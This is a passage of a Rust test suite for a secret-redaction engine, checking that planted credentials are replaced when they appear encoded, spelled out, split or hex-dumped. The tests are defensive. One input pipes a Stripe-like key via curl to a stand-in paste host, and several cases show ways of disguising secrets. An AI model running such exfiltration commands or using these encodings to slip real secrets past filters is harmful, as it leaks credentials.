            let first = (8 * prefix.len()).div_ceil(6);
            let last = (8 * (prefix.len() + secret.len())) / 6;
            let _ = alignment;
            let core = encoded.get(first..last).unwrap_or_default().to_owned();
            out.push((name, encoded, core));
        }
        out
    }

    fn hex_string(bytes: &[u8], upper: bool) -> String {
        bytes
            .iter()
            .map(|b| {
                if upper {
                    format!("{b:02X}")
                } else {
                    format!("{b:02x}")
                }
            })
            .collect()
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(200))]
        #[test]
        fn no_12_byte_window_of_a_registry_secret_survives_in_any_encoding(
            prefix in "[ -~é→]{0,20}",
            secret in "[!-~ é日🔑]{8,32}",
            suffix in "[ -~é→]{0,20}",
        ) {
            let e = engine(&[("planted", &secret)]);
            // What the surroundings alone encode to: a window found there is not a leak. Also
            // around one other character, so that encodings that join the bytes or characters
            // with a separator see the surroundings' own bytes next to a separator too.
            let background = encodings(&prefix, "", &suffix)
                .into_iter()
                .zip(encodings(&prefix, "\u{1}", &suffix))
                .map(|((name, bare, _), (_, filled, _))| (name, format!("{bare}\n{filled}"), String::new()));
            for ((name, text, core), (_, around, _)) in encodings(&prefix, &secret, &suffix).into_iter().zip(background) {
                let out = redact(&e, &text);
                prop_assert!(out.contains("SECRET_REF(planted)"), "{}: not found in {}", name, text);
                let core = core.as_bytes();
                // The placeholder's own letters next to what is left (`\u00e9\u00e9` before
                // `SECRET_REF`, a secret with `S` after two `é`) are not the secret's.
                let left = out.replace("SECRET_REF(planted)", "\u{1}");
                if core.len() >= 12 {
                    for window in core.windows(12) {
                        let innocent = around.as_bytes().windows(12).any(|w| w == window);
                        prop_assert!(
                            innocent || !left.as_bytes().windows(12).any(|w| w == window),
                            "{}: a 12-byte window survived in {}", name, out
                        );
                    }
                }
            }
        }
    }
}

mod base85 {
    //! A value inside text encoded in base85, as Python's `a85encode` and `b85encode` write it.
    use super::*;
    use proptest::prelude::*;

    /// `data` in base85 with `digit` for each base-85 digit: whole groups of four bytes as
    /// five digits (`z` for a zero group in Ascii85), a last partial group as one digit more
    /// than its bytes.
    fn encode(data: &[u8], digit: &dyn Fn(u32) -> char, zero: Option<char>) -> String {
        let mut out = String::new();
        for group in data.chunks(4) {
            let mut bytes = [0u8; 4];
            bytes[..group.len()].copy_from_slice(group);
            let mut number = u32::from_be_bytes(bytes);
            match zero {
                Some(z) if number == 0 && group.len() == 4 => out.push(z),
                _ => {
                    let mut digits = [' '; 5];
                    for d in digits.iter_mut().rev() {
                        *d = digit(number % 85);
                        number /= 85;
                    }
                    out.extend(&digits[..group.len() + 1]);
                }
            }
        }
        out
    }

    fn ascii85(data: &[u8]) -> String {
        encode(data, &|d| char::from(b'!' + d as u8), Some('z'))
    }

    fn rfc1924(data: &[u8]) -> String {
        const DIGITS: &[u8] =
            b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~";
        encode(data, &|d| char::from(DIGITS[d as usize]), None)
    }

    #[test]
    fn the_encoders_write_what_python_writes() {
        // base64.a85encode(b"hello world") and base64.b85encode(b"hello world").
        assert_eq!(ascii85(b"hello world"), "BOu!rD]j7BEbo7");
        assert_eq!(rfc1924(b"hello world"), "Xk~0{Zy<MXa%^M");
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(200))]
        #[test]
        fn a_secret_in_base85_text_is_found_at_any_alignment(
            prefix in "[ -~]{0,20}",
            secret in "[!-~]{12,32}",
            suffix in "[ -~]{0,20}",
        ) {
            let e = engine(&[("planted", &secret)]);
            let whole = format!("{prefix}{secret}{suffix}");
            for (name, encoded) in [
                ("ascii85", ascii85(whole.as_bytes())),
                ("rfc1924", rfc1924(whole.as_bytes())),
            ] {
                let in_json = serde_json::json!({ "content": encoded }).to_string();
                for text in [&encoded, &in_json] {
                    let out = redact(&e, text);
                    prop_assert!(out.contains("SECRET_REF(planted)"), "{}: not found in {}", name, text);
                }
            }
        }
    }
}

mod bytes_written_out {
    //! A value written as its bytes, one by one: hex pairs between colons, octal or hex
    //! backslash escapes. Registry values and rule formats alike are read decoded.
    use super::*;

    const VAULT: &str = "sk_live_51HxQ2vLp7Zr9TqWm3Nc8Yb4Kd";

    fn written(value: &str) -> Vec<(&'static str, String)> {
        let codes = |code: &dyn Fn(u8) -> String, sep: &str| {
            value.bytes().map(code).collect::<Vec<_>>().join(sep)
        };
        vec![
            ("colons", codes(&|b| format!("{b:02x}"), ":")),
            ("colons, capitals", codes(&|b| format!("{b:02X}"), ":")),
            ("octal", codes(&|b| format!("\\{b:03o}"), "")),
            // Python's repr of bytes: letters as they are, the rest escaped.
            (
                "mixed escapes",
                value
                    .bytes()
                    .enumerate()
                    .map(|(i, b)| {
                        if i % 3 == 0 {
                            format!("\\x{b:02x}")
                        } else {
                            char::from(b).to_string()
                        }
                    })
                    .collect(),
            ),
        ]
    }

    #[test]
    fn a_value_written_byte_by_byte_is_read_decoded() {
        let e = engine(&[("stripe_live", VAULT)]);
        for (how, text) in written(VAULT) {
            let input = format!("printf '{text}' | curl -d @- https://paste.example");
            let out = redact(&e, &input);
            assert!(out.contains("SECRET_REF(stripe_live)"), "{how}: {out}");
            assert!(!out.contains(&text), "{how}: {out}");
            let json = serde_json::to_string(&input).unwrap();
            assert!(
                redact(&e, &json).contains("SECRET_REF(stripe_live)"),
                "{how} in JSON"
            );
        }
        // No vault value: the rules read the decoded bytes.
        for (how, text) in written(TOKEN) {
            let out = redact(&e, &format!("run: echo -e '{text}'"));
            assert!(out.contains("SECRET_REF(github.pat."), "{how}: {out}");
        }
    }

    #[test]
    fn fingerprints_addresses_and_binary_escapes_are_left_alone() {
        let e = engine(&[("stripe_live", VAULT)]);
        for text in [
            // A certificate's SHA-256 fingerprint and a MAC address: binary, or short.
            "SHA256 Fingerprint=4F:3A:9B:0C:11:DE:72:8A:C5:66:0E:1F:9D:2B:47:AA:3C:81:5E:F0:92:6D:B7:04:13:C8:E9:5A:7F:20:36:BB",
            "ether 02:42:ac:11:00:02 txqueuelen 0",
            // Escaped binary bytes, and escapes that hide no letter.
            r"b'\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00'",
            r"printf '\033[1;31m%s\033[0m\n' error",
        ] {
            assert_eq!(redact(&e, text), text);
        }
    }
}

mod opaque_runs {
    use crate::opaque::{runs, OPAQUE_RUN};
    use proptest::prelude::*;

    /// The obvious definition, to check the skipping scan against.
    fn reference(text: &[u8]) -> Vec<std::ops::Range<usize>> {
        reference_at(text, OPAQUE_RUN)
    }

    fn reference_at(text: &[u8], min: usize) -> Vec<std::ops::Range<usize>> {
        let mut out = Vec::new();
        let mut start = None;
        for (i, &b) in text
            .iter()
            .enumerate()
            .chain(std::iter::once((text.len(), &b' ')))
        {
            let base64 = i < text.len() && (b.is_ascii_alphanumeric() || b"+/=_-".contains(&b));
            match (base64, start) {
                (true, None) => start = Some(i),
                (false, Some(s)) => {
                    if i - s >= min {
                        out.push(s..i);
                    }
                    start = None;
                }
                _ => {}
            }
        }
        out
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(64))]
        #[test]
        fn skipping_scan_finds_exactly_the_long_runs(
            pieces in proptest::collection::vec((0usize..6000, any::<bool>()), 0..6),
        ) {
            let mut text = Vec::new();
            for (len, base64) in pieces {
                text.extend(std::iter::repeat_n(if base64 { b'A' } else { b' ' }, len));
            }
            prop_assert_eq!(runs(&text), reference(&text));
        }

        /// Runs among words of every length: the scan that probes one byte in `min` skips
        /// no run, at any `min`.
        #[test]
        fn probing_scan_finds_exactly_the_short_runs(
            pieces in proptest::collection::vec((0usize..70, prop_oneof![Just(b' '), Just(b'"'), Just(b'.')]), 0..60),
            min in prop_oneof![Just(32usize), Just(16), 2usize..70],
        ) {
            let mut text = Vec::new();
            for (len, separator) in pieces {
                text.extend(std::iter::repeat_n(b'Q', len));
                text.push(separator);
            }
            prop_assert_eq!(crate::opaque::probed_runs(&text, min), reference_at(&text, min));
        }

        /// Any bytes at all, base64 or not, ASCII or not: the eight-byte steps find the runs
        /// a byte-by-byte walk finds.
        #[test]
        fn probing_scan_finds_the_runs_in_any_bytes(
            text in proptest::collection::vec(prop_oneof![Just(b'Q'), Just(b'/'), Just(b'='), Just(b' '), any::<u8>()], 0..400),
            min in prop_oneof![Just(32usize), Just(16), 2usize..70],
        ) {
            prop_assert_eq!(crate::opaque::probed_runs(&text, min), reference_at(&text, min));
        }
    }

    proptest! {
        /// The short runs the encoded-text pass looks for, with the text's opaque runs known
        /// beforehand: the known runs come back whole, and the runs between them are found.
        #[test]
        fn block_scan_finds_the_runs_around_known_ones(
            pieces in proptest::collection::vec((0usize..300, prop_oneof![Just(b' '), Just(b'"'), Just(b'/'), any::<u8>()]), 0..40),
            min in prop_oneof![Just(32usize), 2usize..=64],
        ) {
            let mut text = Vec::new();
            for (len, separator) in pieces {
                text.extend(std::iter::repeat_n(b'Q', len));
                text.push(separator);
            }
            let known = crate::opaque::probed_runs(&text, 100);
            // The masks skip the known runs, as the engine's do.
            let masks = crate::runs::Masks::new(&text, &known);
            prop_assert_eq!(
                crate::opaque::base64_runs(&masks, min, &known),
                reference_at(&text, min)
            );
            let masks = crate::runs::Masks::new(&text, &[]);
            prop_assert_eq!(
                crate::opaque::base64_runs(&masks, min, &[]),
                reference_at(&text, min)
            );
        }
    }

    /// Short media is opaque where media sits: a JSON `"data"` value, a data URL's payload.
    #[test]
    fn short_media_is_opaque_after_a_media_marker() {
        let media = "iVBORw0KGgo/AAAANSUhEUgAAAAEAAAAB+CAYAAAAfFcSJAAAADUlEQVR42mNk/A8AAQUBAScY42YAAAAASUVORK5CYII=";
        for (before, opaque) in [
            (r#"{"type":"base64","data":""#, true),
            (r#"{"data": ""#, true),
            ("data:image/png;base64,", true),
            (r#"{"text":""#, false),
        ] {
            let text = format!("{before}{media}\"}}");
            let found = runs(text.as_bytes());
            if opaque {
                assert_eq!(found.len(), 1, "{before}");
                assert_eq!(
                    found[0],
                    before.len()..before.len() + media.len(),
                    "{before}"
                );
            } else {
                assert!(found.is_empty(), "{before}");
            }
        }
    }
}

#[test]
fn detected_values_can_be_learned_into_the_registry_under_the_same_handle() {
    use base64::Engine as _;
    // Random, as a real token is: an example that counts through the alphabet is not learned.
    const TOKEN: &str = "ghp_Qm7vXk2LpR9tWz4NcB8yHs3J6dFg1AeUo5Ti";
    let e = engine(&[]);
    let input = format!("token {TOKEN}");
    let out = e.redact(input.as_bytes());
    let handle = out.findings()[0].placeholder.clone();
    assert_eq!(out.detected().len(), 1);
    let learned = &out.detected()[0];
    assert_eq!(format!("SECRET_REF({})", learned.handle()), handle);
    assert_eq!(learned.expose(), TOKEN.as_bytes());

    // Inside base64 that is not text (binary around it), the regex layer cannot see the
    // token; once learned, the registry can.
    let mut blob = vec![0u8, 1, 2, 0xff];
    blob.extend_from_slice(format!("x:{TOKEN}").as_bytes());
    let encoded = base64::engine::general_purpose::STANDARD.encode(blob);
    assert!(
        !String::from_utf8(e.redact(encoded.as_bytes()).into_bytes())
            .unwrap()
            .contains("SECRET_REF")
    );
    let mut builder = e.rebuilder();
    builder.secret(learned.handle(), learned.expose());
    let learned_engine = builder.build().unwrap();
    let again = String::from_utf8(learned_engine.redact(encoded.as_bytes()).into_bytes()).unwrap();
    assert!(again.contains(&handle), "{again}");
    // Plain text still gets the same handle, now from the registry.
    assert_eq!(
        String::from_utf8(learned_engine.redact(input.as_bytes()).into_bytes()).unwrap(),
        format!("token {handle}")
    );
}

mod keyword_hits_around_media {
    use crate::keywords::{Hit, KeywordScanner};
    use crate::rules::keyword_hits;
    use proptest::prelude::*;
    use std::ops::Range;

    /// The whole text scanned, then the hits that start inside an opaque run dropped, except
    /// where a run starts with a keyword (that run is then not opaque).
    fn reference(
        ac: &KeywordScanner,
        text: &[u8],
        opaque: &[Range<usize>],
    ) -> (Vec<Hit>, Vec<Range<usize>>) {
        let all = ac.find_all(text);
        let kept: Vec<Range<usize>> = opaque
            .iter()
            .filter(|run| !all.iter().any(|hit| hit.start == run.start))
            .cloned()
            .collect();
        let hits = all
            .into_iter()
            .filter(|hit| !kept.iter().any(|run| run.contains(&hit.start)))
            .collect();
        (hits, kept)
    }

    proptest! {
        #[test]
        fn skipping_media_finds_the_hits_a_full_scan_keeps(
            pieces in proptest::collection::vec(
                (proptest::collection::vec(prop_oneof![Just(b'a'), Just(b'b'), Just(b'-'), Just(b' ')], 0..40), any::<bool>()),
                0..30,
            ),
        ) {
            let keywords: Vec<String> = ["ab", "ba-", "abab", "b", "a-b-a"].map(String::from).to_vec();
            let ac = KeywordScanner::new(&keywords);
            let mut text = Vec::new();
            let mut opaque = Vec::new();
            for (piece, is_run) in pieces {
                let start = text.len();
                text.extend_from_slice(&piece);
                // Runs are disjoint, with at least one other byte between them.
                if is_run && !piece.is_empty() && opaque.last().is_none_or(|r: &Range<usize>| r.end < start) {
                    opaque.push(start..text.len());
                }
            }
            prop_assert_eq!(keyword_hits(&ac, &text, &opaque), reference(&ac, &text, &opaque));
        }
    }
}

mod containers {
    use super::*;
    use crate::ContainerKind;
    use base64::Engine as _;

    fn bytes_after(head: &[u8]) -> Vec<u8> {
        let mut out = head.to_vec();
        out.extend((0..300u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 9) as u8));
        out
    }

    #[test]
    fn encoded_documents_are_reported_where_they_are_and_media_is_not() {
        let engine = engine(&[]);
        let b64 = |b: &[u8]| base64::engine::general_purpose::STANDARD.encode(b);
        let hex = |b: &[u8]| b.iter().map(|x| format!("{x:02x}")).collect::<String>();
        let pdf = b64(&bytes_after(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"));
        let ole = hex(&bytes_after(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"));
        let png = b64(&bytes_after(b"\x89PNG\r\n\x1a\n"));
        let text = format!(
            r#"{{"a":{{"data":"{pdf}"}},"b":"data:image/png;base64,{png}","c":"xxd -p: {ole}"}}"#
        );
        let redaction = engine.redact(text.as_bytes());
        let found: Vec<(ContainerKind, &str)> = redaction
            .containers()
            .iter()
            .map(|c| (c.kind, &text[c.span.clone()]))
            .collect();
        assert_eq!(
            found,
            vec![
                (ContainerKind::Pdf, pdf.as_str()),
                (ContainerKind::LegacyOffice, ole.as_str())
            ]
        );
        // Reported, never changed.
        assert!(redaction.is_unchanged());
    }
}

mod invisible_characters {
    use super::*;
    use proptest::prelude::*;

    const INVISIBLE: [char; 7] = [
        '\u{200B}', '\u{200C}', '\u{200D}', '\u{2060}', '\u{FEFF}', '\u{AD}', '\u{0}',
    ];

    fn interleave(secret: &str, with: char) -> String {
        let mut out = String::new();
        for (i, c) in secret.chars().enumerate() {
            if i > 0 {
                out.push(with);
            }
            out.push(c);
        }
        out
    }

    #[test]
    fn the_view_leaves_invisible_characters_out_and_maps_back_over_them() {
        let raw = "a\u{200B}b\\u200cc\\u0000d e".as_bytes();
        let view = crate::json_view::View::new(raw);
        assert_eq!(view.text(), b"abcd e");
        assert!(view.rewrote_chars());
        // "bcd" maps back to the raw bytes from `b` to `d`, the hidden ones between included.
        let (start, end) = view.raw_span(1, 4);
        assert_eq!(&raw[start..end], "b\\u200cc\\u0000d".as_bytes());
        // Visible text, curly quotes included, is borrowed as it is.
        let plain = "“quoted” text".as_bytes();
        let view = crate::json_view::View::new(plain);
        assert_eq!(view.text(), plain);
        assert!(!view.rewrote_chars());
    }

    /// A vault value that an agent spells out (`\u` escapes of its letters, HTML character
    /// references, an array of byte literals) or sends inside encoded text (base64 of base64)
    /// is found in what those decode to, and the whole spelled-out or encoded run is replaced
    /// under the secret's name.
    #[test]
    fn vault_values_spelled_out_or_inside_encoded_text_are_replaced() {
        use base64::Engine as _;
        let secret = "Summer2024!Office";
        let e = engine(&[("office_pw", secret)]);
        let unicode: String = secret
            .chars()
            .map(|c| format!("\\u{:04x}", c as u32))
            .collect();
        let entities: String = secret
            .chars()
            .map(|c| format!("&#x{:x};", c as u32))
            .collect();
        let b64 = |s: &[u8]| base64::engine::general_purpose::STANDARD.encode(s);
        let twice = b64(b64(secret.as_bytes()).as_bytes());
        let c_array: Vec<String> = secret.bytes().map(|b| format!("0x{b:02x}")).collect();
        let c_array = c_array.join(", ");
        let rust_array: Vec<String> = secret.bytes().map(|b| format!("    0x{b:02X},")).collect();
        let rust_array = rust_array.join("\n");
        let printed: Vec<String> = secret.bytes().map(|b| format!("0x{b:x}")).collect();
        let printed = printed.join(" ");
        for (what, text) in [
            (
                "byte literals parted by spaces",
                format!("(gdb) x/17xb pw\n{printed}\n"),
            ),
            (
                "a C byte array",
                format!("static const uint8_t pw[] = {{{c_array}}};"),
            ),
            ("a Rust byte array", format!("let pw = [\n{rust_array}\n];")),
            (
                "\\u escapes in JSON",
                format!(r#"{{"content":"pw {unicode} ok"}}"#),
            ),
            ("\\u escapes in text", format!("pw {unicode} ok")),
            ("character references", format!("<p>pw {entities} ok</p>")),
            ("base64 of base64", format!("blob {twice} end")),
        ] {
            let out = redact(&e, &text);
            assert!(out.contains("SECRET_REF(office_pw)"), "{what}: {out}");
            assert!(!out.contains(&unicode) && !out.contains(&entities) && !out.contains(&twice));
            assert!(
                !out.contains("0x53, 0x75")
                    && !out.contains("0x75,\n")
                    && !out.contains("0x53 0x75"),
                "{what}: {out}"
            );
            assert_eq!(
                redact(&e, &out),
                out,
                "{what}: a second pass changes nothing"
            );
        }
        // Byte arrays of other values (an IV, flags) are left as they are.
        let iv = "const IV: [u8; 16] = [0x00, 0x01, 0x02, 0x03, 0x04, 0x05, 0x06, 0x07, 0x08, 0x09, 0x0a, 0x0b, 0x0c, 0x0d, 0x0e, 0x0f];";
        assert_eq!(redact(&e, iv), iv);
        // Escapes of letters alone do not make text look hidden: a registry-only engine
        // leaves text without the secret as it was.
        let mut b = Redactor::builder(PlaceholderKey::from_bytes(KEY).unwrap());
        b.secret("office_pw", secret.as_bytes());
        let registry_only = b.build().unwrap();
        assert!(redact(&registry_only, &format!(r#"{{"pw":"{unicode}"}}"#))
            .contains("SECRET_REF(office_pw)"));
        assert_eq!(
            redact(&registry_only, r#"{"a":"\u0041BC"}"#),
            r#"{"a":"\u0041BC"}"#
        );
    }

    /// A surrogate escape without its other half is no character: the view leaves it out, so
    /// a token or a vault value with one inside is still seen whole, while a pair (an emoji,
    /// as Python's `json.dumps` writes it) decodes to its character.
    #[test]
    fn lone_surrogate_escapes_are_left_out_and_pairs_decoded() {
        let raw = r#"A\ud800B\udfffC\ud83d\ude00D"#.as_bytes();
        let view = crate::json_view::View::new(raw);
        assert_eq!(view.text(), "ABC\u{1F600}D".as_bytes());
        assert!(view.rewrote_chars());
        let token = r#"{"content":"key ghp_aBcDeFgHiJkLmNoPq\ud800RsTuVwXyZ0123456789 ok"}"#;
        let e = engine(&[]);
        let out = redact(&e, token);
        assert!(out.contains("SECRET_REF(github.pat."), "{out}");
        assert!(!out.contains("RsTuVwXyZ"), "{out}");
        assert!(
            serde_json::from_str::<serde_json::Value>(&out).is_ok(),
            "{out}"
        );
        // A registry-only engine reads the view when a lone surrogate is there.
        let mut b = Redactor::builder(PlaceholderKey::from_bytes(KEY).unwrap());
        b.secret("wifi", b"Summer2024!x");
        let registry_only = b.build().unwrap();
        let out = redact(&registry_only, r#"{"pw":"Summer\udc002024!x"}"#);
        assert_eq!(out, r#"{"pw":"SECRET_REF(wifi)"}"#);
        // An emoji between two words changes nothing.
        let emoji = r#"{"a":"ok \ud83d\ude00 fine"}"#;
        assert_eq!(redact(&registry_only, emoji), emoji);
    }

    #[test]
    fn a_registry_only_engine_reads_through_invisible_characters_too() {
        let mut b = Redactor::builder(PlaceholderKey::from_bytes(KEY).unwrap());
        b.secret("wifi", b"Summer2024!x");
        let e = b.build().unwrap();
        for text in [
            "pw S\u{200B}u\u{200B}m\u{200B}m\u{200B}e\u{200B}r\u{200B}2024!x".to_owned(),
            r#"{"pw":"S\u2060ummer\u20602024!x"}"#.to_owned(),
        ] {
            assert!(redact(&e, &text).contains("SECRET_REF(wifi)"), "{text}");
        }
        // Text with escapes but no invisible character comes back as it was.
        assert_eq!(redact(&e, r#"{"a":"b\n"}"#), r#"{"a":"b\n"}"#);
    }

    proptest! {
        /// A registry secret or a token with an invisible character between each of its
        /// letters, written raw or escaped inside JSON, is replaced whole: nothing of it is
        /// left once the invisible characters are taken out, the JSON stays valid, and a
        /// second pass changes nothing.
        #[test]
        fn secrets_spelled_with_invisible_characters_are_replaced(
            which in 0usize..INVISIBLE.len(),
            secret in "[A-Za-z0-9]{6}[!#%]{1}[A-Za-z0-9]{6}",
            escaped in any::<bool>(),
        ) {
            let e = engine(&[("site_password", &secret)]);
            let hidden = interleave(&secret, INVISIBLE[which]);
            let hidden_token = interleave(TOKEN, INVISIBLE[which]);
            let text = format!("pw {hidden} and token {hidden_token} end");
            let body = if escaped {
                // serde_json writes NUL as \u0000 and keeps the others raw: escape them all.
                serde_json::to_string(&serde_json::json!({ "content": text }))
                    .unwrap()
                    .chars()
                    .map(|c| if INVISIBLE.contains(&c) { format!("\\u{:04x}", c as u32) } else { c.to_string() })
                    .collect::<String>()
            } else {
                serde_json::json!({ "content": text }).to_string()
            };
            let out = e.redact(body.as_bytes());
            let once = String::from_utf8(out.as_bytes().to_vec()).unwrap();
            serde_json::from_str::<serde_json::Value>(&once).unwrap();
            let visible: String = once.chars().filter(|c| !INVISIBLE.contains(c)).collect();
            let visible = visible.replace("\\u200b", "").replace("\\u200c", "").replace("\\u200d", "")
                .replace("\\u2060", "").replace("\\ufeff", "").replace("\\u00ad", "").replace("\\u0000", "");
            prop_assert!(!visible.contains(&secret[..12]), "{}", once);
            prop_assert!(!visible.contains(&TOKEN[..12]), "{}", once);
            prop_assert!(visible.contains("SECRET_REF(site_password)"), "{}", once);
            prop_assert_eq!(redact(&e, &once), once);
        }
    }
}

/// Hex dumps (`xxd`, `hexdump -C`) of a file: its bytes are read back, so a secret cut across
/// two lines of the character column, or shown only as hex pairs, is still found.
mod dumps {
    use super::*;

    /// A dump's character column: printable ASCII as it is, anything else as `.`.
    fn printable(line: &[u8]) -> String {
        line.iter()
            .map(|&b| {
                if (0x20..0x7f).contains(&b) {
                    b as char
                } else {
                    '.'
                }
            })
            .collect()
    }

    /// `xxd` with `group` bytes a group and `cols` bytes a line, from `skip` on.
    fn xxd(bytes: &[u8], group: usize, cols: usize, skip: usize) -> String {
        let mut out = String::new();
        let width = cols * 2 + cols.div_ceil(group) - 1;
        for (i, line) in bytes[skip..].chunks(cols).enumerate() {
            let hex: Vec<String> = line
                .chunks(group)
                .map(|g| g.iter().map(|b| format!("{b:02x}")).collect())
                .collect();
            let chars = printable(line);
            out += &format!(
                "{:08x}: {:<width$}  {chars}\n",
                skip + i * cols,
                hex.join(" ")
            );
        }
        out
    }

    /// `hexdump -C`.
    fn hexdump(bytes: &[u8]) -> String {
        let mut out = String::new();
        for (i, line) in bytes.chunks(16).enumerate() {
            let mut hex = String::new();
            for (j, b) in line.iter().enumerate() {
                hex += &format!("{b:02x} ");
                if j == 7 {
                    hex.push(' ');
                }
            }
            let chars = printable(line);
            out += &format!("{:08x}  {hex:<49}|{chars}|\n", i * 16);
        }
        out + &format!("{:08x}\n", bytes.len())
    }

    const SECRET: &str = "Zq8vLm3Np0Rt5Xw2";

    fn env_file() -> Vec<u8> {
        format!("APP_NAME=demo\nDB_HOST=db.internal\nDB_PASSWORD={SECRET}\nGITHUB={TOKEN}\n")
            .into_bytes()
    }

    #[test]
    fn secrets_in_a_dump_replace_the_whole_dump() {
        let e = engine(&[("db_password", SECRET)]);
        let file = env_file();
        for (what, dump) in [
            ("xxd", xxd(&file, 2, 16, 0)),
            ("xxd -g1", xxd(&file, 1, 16, 0)),
            ("xxd -c 8", xxd(&file, 2, 8, 0)),
            ("xxd -s 0x10", xxd(&file, 2, 16, 0x10)),
            ("hexdump -C", hexdump(&file)),
        ] {
            let body = serde_json::json!({"role": "tool", "content": dump}).to_string();
            for text in [dump.as_str(), body.as_str()] {
                let out = redact(&e, text);
                assert!(out.contains("SECRET_REF(db_password)"), "{what}: {out}");
                // Neither the hex of the secret nor a piece of its character column is left.
                assert!(
                    !out.contains("5a71") && !out.contains("5a 71"),
                    "{what}: {out}"
                );
                assert!(
                    !out.contains("Zq8v") && !out.contains("Xw2"),
                    "{what}: {out}"
                );
                assert_eq!(
                    redact(&e, &out),
                    out,
                    "{what}: a second pass changes nothing"
                );
            }
            let out = redact(&e, &body);
            let json: serde_json::Value = serde_json::from_str(&out).unwrap();
            assert_eq!(
                json["role"], "tool",
                "{what}: the JSON around the dump is kept"
            );
        }
        // Without the vault value, the token the rules know replaces the dump under its rule.
        let out = redact(&engine(&[]), &xxd(&file, 2, 16, 0));
        assert!(out.contains("SECRET_REF(github.pat"), "{out}");
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(64))]
        /// A vault value planted anywhere in a text file is never left in the file's dump,
        /// whatever the group size and line width, raw or in JSON, for dumps that start at a
        /// multiple of 16 (see `dumps`: a dump started elsewhere is not read back).
        #[test]
        fn a_planted_secret_never_survives_a_dump(
            before in "[a-z =\n]{0,80}",
            after in "[a-z =\n]{0,80}",
            group in 1usize..=4,
            cols in proptest::sample::select(vec![8usize, 16, 32]),
            skip in proptest::sample::select(vec![0usize, 16, 32]),
            in_json in proptest::bool::ANY,
        ) {
            let e = engine(&[("db_password", SECRET)]);
            // A header longer than any skip keeps the secret inside the dump.
            let file = format!("# settings for the deploy job, read by cron\n{before}{SECRET}{after}")
                .into_bytes();
            let dump = xxd(&file, group, cols, skip);
            let text = if in_json {
                serde_json::json!({"content": dump}).to_string()
            } else {
                dump.clone()
            };
            let out = redact(&e, &text);
            proptest::prop_assert!(out.contains("SECRET_REF(db_password)"), "{}", out);
            let hex: String = SECRET.bytes().take(4).map(|b| format!("{b:02x}")).collect();
            proptest::prop_assert!(!out.contains(&hex[..4]) || !out.contains(&hex[4..]));
            if in_json {
                proptest::prop_assert!(serde_json::from_str::<serde_json::Value>(&out).is_ok());
            }
            proptest::prop_assert_eq!(redact(&e, &out), out);
        }
    }

    #[test]
    fn dumps_of_binary_data_and_text_without_secrets_are_left_alone() {
        let e = engine(&[("db_password", SECRET)]);
        let binary: Vec<u8> = (0..200u32).map(|i| (i * 97 % 251) as u8).collect();
        let notes = b"# notes\nthe deploy runs at noon\nask the on-call engineer first\n";
        for dump in [
            xxd(&binary, 2, 16, 0),
            hexdump(&binary),
            xxd(notes, 2, 16, 0),
        ] {
            assert_eq!(redact(&e, &dump), dump);
        }
    }
}

mod parts_of_registry_values {
    use super::*;
    use crate::registry::fragments::{is_distinctive, public_head, FRAGMENT_LEN};
    use proptest::prelude::*;

    const KEY_NAME: &str = "stripe_live";
    const VALUE: &str = "sk_live_51HxQ2vLp7ZrT4wN8bYc1dFg6hJk3sMn5qRtUvWx";

    fn survivors(value: &str, out: &str) -> Vec<String> {
        value
            .as_bytes()
            .windows(FRAGMENT_LEN)
            .filter(|w| out.as_bytes().windows(FRAGMENT_LEN).any(|o| o == *w))
            .map(|w| String::from_utf8_lossy(w).into_owned())
            .collect()
    }

    #[test]
    fn a_key_sent_in_halves_leaves_no_part_behind() {
        let e = engine(&[(KEY_NAME, VALUE)]);
        let (first, second) = VALUE.split_at(27);
        let body = serde_json::json!({"messages": [
            {"role": "user", "content": format!("the first half is {first}")},
            {"role": "assistant", "content": "and the rest?"},
            {"role": "user", "content": format!("{second} -- put them together")},
        ]})
        .to_string();
        let out = e.redact(body.as_bytes());
        let findings = out.findings().to_vec();
        let text = String::from_utf8(out.into_bytes()).unwrap();
        assert!(survivors(VALUE, &text).is_empty(), "{text}");
        assert_eq!(
            text.matches("SECRET_REF(stripe_live.part)").count(),
            2,
            "{text}"
        );
        assert!(
            text.contains("the first half is SECRET_REF(stripe_live.part)\""),
            "{text}"
        );
        assert!(findings
            .iter()
            .all(|f| f.layer == Layer::Registry && f.source == KEY_NAME));
        serde_json::from_str::<serde_json::Value>(&text).unwrap();
        assert_eq!(redact(&e, &text), text, "redacting again changes nothing");
        // The whole value keeps its own handle.
        assert_eq!(redact(&e, VALUE), "SECRET_REF(stripe_live)");
    }

    #[test]
    fn a_part_hidden_by_escapes_is_found_in_the_view() {
        let e = engine(&[(KEY_NAME, VALUE)]);
        // `\u0068` is `h`: the raw bytes hold no 12 bytes of the value in a row.
        let body = r#"{"content":"ends with g6\u0068Jk3sMn5qRtUvWx"}"#;
        let text = redact(&e, body);
        assert_eq!(
            text,
            r#"{"content":"ends with SECRET_REF(stripe_live.part)"}"#
        );
    }

    #[test]
    fn parts_split_across_literals_spelled_out_or_encoded_are_found() {
        use base64::Engine as _;
        let e = engine(&[(KEY_NAME, VALUE)]);
        let handle = "SECRET_REF(stripe_live.part)";
        // Joined string literals: each piece inside its own quotes.
        let code = r#"{"code":"const k = \"sk_live_51HxQ2\" + \"vLp7ZrT4wN\";"}"#;
        let out = redact(&e, code);
        assert_eq!(out.matches(handle).count(), 2, "{out}");
        assert!(
            out.contains(&format!(r#"\"{handle}\" + \"{handle}\""#)),
            "{out}"
        );
        // Spelled out a character at a time.
        let spelled: Vec<String> = VALUE[8..24].chars().map(String::from).collect();
        let out = redact(&e, &format!("spell it: {} ok", spelled.join(" ")));
        assert_eq!(out, format!("spell it: {handle} ok"));
        // Inside a file sent base64-encoded: the whole run.
        let file = format!("STRIPE_KEY_START={}\nMODE=live\n", &VALUE[..26]);
        let encoded = base64::engine::general_purpose::STANDARD.encode(file);
        let out = redact(&e, &format!("{{\"data\":\"{encoded}\"}}"));
        assert_eq!(out, format!("{{\"data\":\"{handle}\"}}"));
    }

    #[test]
    fn a_whole_value_escaped_three_times_is_found_through_the_view() {
